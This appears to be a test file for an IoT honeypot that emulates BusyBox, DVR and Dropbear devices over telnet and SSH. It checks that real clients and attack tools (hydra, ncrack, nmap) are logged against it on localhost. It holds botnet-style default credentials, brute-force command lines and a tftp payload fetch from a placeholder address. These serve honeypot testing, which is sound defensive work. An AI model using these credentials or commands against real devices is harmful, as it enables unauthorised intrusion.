import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'
import { typeAt } from './type-at.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string } } }
type Command = Event & { process: { command_line: string } }
const of = (service: string, action: string) => (event: Event) =>
  event.skep.service === service && event.event.action === action
const loginOf = (service: string, name: string) => (event: Event) =>
  of(service, 'login')(event) && (event as Login).user?.name === name
const commandLike = (service: string, text: string) => (event: Event) =>
  of(service, 'command')(event) && (event as Command).process.command_line.includes(text)

/** What a device shows who asks nothing, up to its prompt. */
const promptAt = (port: string) =>
  new Promise<string>(resolve => {
    let heard = ''
    const socket = net.connect(Number(port), '127.0.0.1')
    socket.on('data', data => {
      heard += data.toString('latin1')
      if (!heard.endsWith('login: ')) return
      socket.destroy()
      resolve(heard)
    })
  })

const access = '{ rules: ["root:xc3511", "admin:ncrack"], otherwise: refuse }'

for (const device of ['busybox', 'dvr'] as const)
  describe(`telnet with device: ${device}, with real clients`, () => {
    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'device-clients-'))
    let skep: Skep
    let port: string
    before(async () => {
      skep = await startSkep({ config: `services: { telnet: { device: ${device}, access: ${access} } }\n` })
      port = String(skep.port('telnet'))
    })
    after(async () => {
      await skep?.stop()
      fs.rmSync(home, { recursive: true })
    })

    for (const client of ['telnet', 'busybox telnet'] as const)
      test(`${client} works at the shell`, { skip: missing(client.split(' ')[0]!, 'script') }, async () => {
        const mark = client.replace(' ', '-')
        const screen = await typeAt(`${client} 127.0.0.1 ${port}`, [
          ['login: ', 'root\r'],
          ['Password: ', 'wrong\r'],
          ['Login incorrect', 'root\r'],
          ['Password: ', 'xc3511\r'],
          ['# ', `cat /proc/mtd; curl ${mark}\r`],
          ['curl: not found', 'busybox nosuch\r'],
          ['nosuch: applet not found', 'exit\r'],
        ])
        assert.match(screen, /BusyBox v1\.\d+\.\d+ \([-0-9]+ [:0-9]+ CST\) built-in shell \(ash\)/)
        assert.match(screen, /mtd0: [0-9a-f]{8} 00010000 "/)
        await skep.eventually(commandLike('telnet', `curl ${mark}`))
      })

    test('the window is what programs see, whatever else a client says of options', {
      skip: missing('telnet', 'script'),
    }, async () => {
      const screen = await typeAt(`sh -c 'stty rows 33 columns 111; exec telnet 127.0.0.1 ${port}'`, [
        ['login: ', 'root\r'],
        ['Password: ', 'xc3511\r'],
        ['# ', 'stty size; echo $TERM\r'],
        ['33 111\r\nvt102', ''],
      ])
      assert.match(screen, /33 111\r\nvt102/)
    })

    // What follows a refusal it understands as little as at any telnetd.
    test('hydra finds the password when it is the first, and what it tries is told of', {
      skip: missing('hydra'),
    }, async () => {
      const args = ['-I', '-t', '2', '-s', port]
      const { out, err } = await runClient('hydra', [...args, '-l', 'root', '-p', 'xc3511', '127.0.0.1', 'telnet'])
      assert.match(out, /login: root +password: xc3511/, err)
      const words = path.join(home, 'words')
      fs.writeFileSync(words, 'vizxv\nadmin\n')
      await runClient('hydra', [...args, '-l', 'hydra', '-P', words, '127.0.0.1', 'telnet'])
      const tried = ((await skep.eventually(loginOf('telnet', 'hydra'), 2)) as Login[]).map(e => e.skep.login.password)
      assert.deepEqual(tried.sort(), ['admin', 'vizxv'])
    })

    test('ncrack finds the password', { skip: missing('ncrack') }, async t => {
      if ((await promptAt(port)).includes('(')) return t.skip('ncrack waits for ever at a prompt that says (none)')
      const some = path.join(home, 'some')
      fs.writeFileSync(some, 'guess\nncrack\n')
      // As a user of its own, whose tries can be told from those of the other tests.
      const args = ['-v', '--user', 'admin', '-P', some, `telnet://127.0.0.1:${port},CL=1`]
      const { out, err } = await runClient('ncrack', args, { seconds: 100 })
      const tried = ((await skep.eventually(loginOf('telnet', 'admin'), 2)) as Login[]).map(e => e.skep.login.password)
      for (const word of ['guess', 'ncrack']) assert.ok(tried.includes(word), tried.join())
      // On a busy machine it gives up before it has read the answer.
      if (out.includes('Ncrack done')) assert.match(out + err, /telnet: 'admin' 'ncrack'/)
    })

    // Of the greetings that makers wrote themselves nmap knows the protocol alone; BusyBox's own it names.
    test('nmap knows a telnetd', { skip: missing('nmap') }, async t => {
      // `(none) login: ` fits no pattern of its own; what login echoes of its probes then is 132 bytes by chance.
      if ((await promptAt(port)).includes('(')) return t.skip('nmap takes a prompt that says (none) for anything')
      const args = ['-Pn', '-sV', '--version-intensity', '0', '-p', port, '127.0.0.1']
      const { out } = await runClient('nmap', args, { seconds: 200 })
      assert.match(out, /\/tcp\s+open\s+telnet\b/)
      assert.doesNotMatch(out, /honeypot/i)
    })
  })

describe('ssh with device: dropbear, with real clients', () => {
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'dropbear-clients-'))
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: `services: { ssh: { device: dropbear, access: ${access} } }\n` })
    port = String(skep.port('ssh'))
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const trusting = [
    '-F',
    'none',
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'LogLevel=ERROR',
  ]
  const withPassword = (program: string, args: string[]) => runClient('sshpass', ['-p', 'xc3511', program, ...args])

  test('ssh runs a command on the router', { skip: missing('ssh', 'sshpass') }, async () => {
    const { out, status } = await withPassword('ssh', [...trusting, '-p', port, 'root@127.0.0.1', 'uname -m; nosuch'])
    assert.match(out, /^mips\n/)
    assert.equal(status, 127)
    await skep.eventually(commandLike('ssh', 'uname -m'))
  })

  for (const [list, flag, names] of [
    [
      'key exchange',
      'KexAlgorithms',
      ['curve25519-sha256', 'ecdh-sha2-nistp521', 'diffie-hellman-group14-sha256', 'diffie-hellman-group14-sha1'],
    ],
    ['host key', 'HostKeyAlgorithms', ['ssh-ed25519', 'ecdsa-sha2-nistp256', 'rsa-sha2-256', 'ssh-rsa']],
    ['cipher', 'Ciphers', ['chacha20-poly1305@openssh.com', 'aes128-ctr', 'aes256-ctr']],
    ['MAC', 'MACs', ['hmac-sha1', 'hmac-sha2-256']],
  ] as const)
    for (const name of names)
      test(`${list} ${name}`, { skip: missing('ssh', 'sshpass') }, async () => {
        const ctr = flag === 'MACs' ? ['-o', 'Ciphers=aes128-ctr'] : []
        const args = [...trusting, ...ctr, '-o', `${flag}=${name}`, '-p', port, 'root@127.0.0.1', 'echo ok']
        const { out, err } = await withPassword('ssh', args)
        assert.equal(out, 'ok\n', err)
      })

  test('ssh at a terminal: the device’s prompt and shell', { skip: missing('ssh', 'sshpass', 'script') }, async () => {
    const screen = await typeAt(`sshpass -p xc3511 ssh -C ${trusting.join(' ')} -p ${port} root@127.0.0.1`, [
      ['# ', 'busybox | head -1\r'],
      ['multi-call binary', 'tftp -g -r x 192.0.2.9\r'],
      ['# ', 'exit\r'],
    ])
    assert.match(screen, /built-in shell \(ash\)/)
    await skep.eventually(commandLike('ssh', 'tftp -g'))
  })

  test('scp of old brings a file; there is no SFTP', { skip: missing('scp', 'sshpass') }, async () => {
    const file = path.join(home, 'bot')
    const bytes = Buffer.from(`inert ${'x'.repeat(70_000)}`)
    fs.writeFileSync(file, bytes)
    const sent = await withPassword('scp', ['-O', ...trusting, '-P', port, file, 'root@127.0.0.1:/tmp/bot'])
    assert.equal(sent.status, 0, sent.err)
    const uploads = await skep.eventually(of('ssh', 'file-upload'))
    const sha256 = createHash('sha256').update(bytes).digest('hex')
    assert.ok(JSON.stringify(uploads).includes(sha256))
    const modern = await withPassword('scp', ['-s', ...trusting, '-P', port, file, 'root@127.0.0.1:/tmp/bot2'])
    assert.notEqual(modern.status, 0)
  })

  test('dbclient works', { skip: missing('dbclient') }, async () => {
    const { out, err } = await runClient('env', [
      'DROPBEAR_PASSWORD=xc3511',
      'dbclient',
      ...['-y', '-y', '-p', port, 'root@127.0.0.1', 'cat /proc/cpuinfo'],
    ])
    assert.match(out, /system type\t+: /, err)
  })

  test('hydra’s every try is told of', { skip: missing('hydra') }, async () => {
    const words = path.join(home, 'words')
    fs.writeFileSync(words, 'admin\n12345\nxc3511\n')
    const { out, err } = await runClient('hydra', [
      '-I',
      '-t',
      '2',
      '-l',
      'root',
      '-P',
      words,
      '-s',
      port,
      '127.0.0.1',
      'ssh',
    ])
    assert.match(out, /login: root +password: xc3511/, err)
    const tried = ((await skep.eventually(loginOf('ssh', 'root'), 3)) as Login[]).map(e => e.skep.login.password)
    for (const word of ['admin', '12345', 'xc3511']) assert.ok(tried.includes(word), tried.join())
  })

  test('nmap names Dropbear', { skip: missing('nmap') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-sV', '-p', port, '127.0.0.1'], { seconds: 200 })
    assert.match(out, /open +ssh +Dropbear sshd 2022\.83/)
  })
})
